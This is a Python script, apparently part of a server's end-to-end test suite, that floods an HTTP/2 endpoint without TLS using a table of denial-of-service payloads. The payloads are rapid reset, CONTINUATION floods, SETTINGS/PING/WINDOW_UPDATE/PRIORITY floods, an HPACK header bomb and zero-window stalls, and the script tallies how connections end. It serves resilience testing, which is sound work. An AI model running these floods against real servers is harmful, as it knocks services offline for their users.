"""An enemy that speaks HTTP/2 without TLS: floods of one kind on one connection after the other, until its standard input ends.

usage: h2_flood.py ADDRESS KIND THREADS PER_SECOND
It prints one JSON object: how many connections it made, and how each ended: "GOAWAY 11", "closed", "open" (after five seconds),
"cut" (while it still sent).
"""

import collections
import json
import os
import socket
import struct
import sys
import threading
import time

sys.dont_write_bytecode = True
ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__)))))
sys.path[:0] = [os.path.join(ROOT, "tests", "e2e")]

from support.h2 import (DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS,  # noqa: E402
                        WINDOW_UPDATE, block, frame)

PRIORITY, CONTINUATION = 2, 9
CANCEL = struct.pack(">I", 8)
PATIENT_STREAMS = 100


def request(stream, flags=END_HEADERS | END_STREAM, method="GET", path="/attacked", more=()):
    fields = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "attacked.example"), *more]
    return frame(HEADERS, flags, stream, block(fields))


def streams(count):
    return range(1, 2 * count, 2)


# A literal that goes into the table, and one byte for each time that it is wanted again (RFC 7541 §6.2.1, §6.1).
_BOMB = b"\x40\x01a\x7f" + bytes([0x80 | (4000 - 127) % 128, (4000 - 127) // 128]) + b"b" * 4000 + b"\xbe" * 8000

KINDS = {
    "rapid reset": b"".join(request(i) + frame(RST_STREAM, 0, i, CANCEL) for i in streams(1000)),
    # RFC 9113 §6.9.1: a window beyond 2^31-1 is an error of its stream, so that it is the server that resets.
    "resets that the server is made to send": b"".join(request(i) + frame(WINDOW_UPDATE, 0, i, b"\x7f\xff\xff\xff") for i in streams(1000)),
    "CONTINUATION": request(1, flags=END_STREAM) + frame(CONTINUATION, 0, 1, b"\0\x01a\x01b") * 20_000,
    "empty CONTINUATION": request(1, flags=END_STREAM) + frame(CONTINUATION, 0, 1) * 20_000,
    "SETTINGS": frame(SETTINGS, 0, 0) * 2_000,
    "PING": frame(PING, 0, 0, bytes(8)) * 2_000,
    "empty DATA": request(1, flags=END_HEADERS, method="POST") + frame(DATA, 0, 1) * 5_000,
    "WINDOW_UPDATE": frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 5_000,
    "PRIORITY": frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 1)) * 5_000,
    "a header list bomb": frame(HEADERS, END_HEADERS | END_STREAM, 1, block([(":method", "GET"), (":scheme", "http"), (":path", "/attacked"),
                                                                            (":authority", "attacked.example")]) + _BOMB),
    # Asks for much and lets nothing of it come.
    "a window of zero": frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + b"".join(request(i, path="/big?bytes=1000000") for i in streams(PATIENT_STREAMS)),
}


class Enemy(threading.Thread):
    def __init__(self, address, flood, pause, enough, endings):
        super().__init__(daemon=True)
        host, _, port = address.rpartition(":")
        self._place, self._bytes = (host, int(port)), PREFACE + frame(SETTINGS, 0, 0) + flood
        self._pause, self._enough, self._endings = pause, enough, endings

    def run(self):
        while not self._enough.is_set():
            begun = time.monotonic()
            try:
                with socket.create_connection(self._place, timeout=5) as connection:
                    self._endings[self._one(connection)] += 1
            except OSError as error:
                self._endings[repr(error)] += 1
            self._enough.wait(max(0.0, self._pause - (time.monotonic() - begun)))

    def _one(self, connection):
        cut = False
        try:
            connection.sendall(self._bytes)
        except OSError:
            cut = True  # what it has said before can be read all the same, unless it was reset
        received = b""
        until = time.monotonic() + 5
        try:
            while time.monotonic() < until and not self._enough.is_set():
                part = connection.recv(65536)
                if not part:
                    return self._last_words(received) or "closed"
                received += part
            return self._last_words(received) or "open"
        except TimeoutError:
            return self._last_words(received) or "open"
        except OSError:
            return self._last_words(received) or ("cut" if cut else "closed")

    @staticmethod
    def _last_words(received):
        at, said = 0, ""
        while at + 9 <= len(received):
            size = int.from_bytes(received[at:at + 3], "big")
            if received[at + 3] == GOAWAY and at + 17 <= len(received):
                said = f"GOAWAY {int.from_bytes(received[at + 13:at + 17], 'big')}"
            at += 9 + size
        return said


def main():
    address, kind, threads, per_second = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    os.nice(5)  # it shares two cores with what it attacks, and its own work is not the question
    enough, endings = threading.Event(), collections.Counter()
    enemies = [Enemy(address, KINDS[kind], threads / per_second, enough, endings) for _ in range(threads)]
    for enemy in enemies:
        enemy.start()
    sys.stdin.read()
    enough.set()
    for enemy in enemies:
        enemy.join(10)
    print(json.dumps(endings), flush=True)


if __name__ == "__main__":
    main()
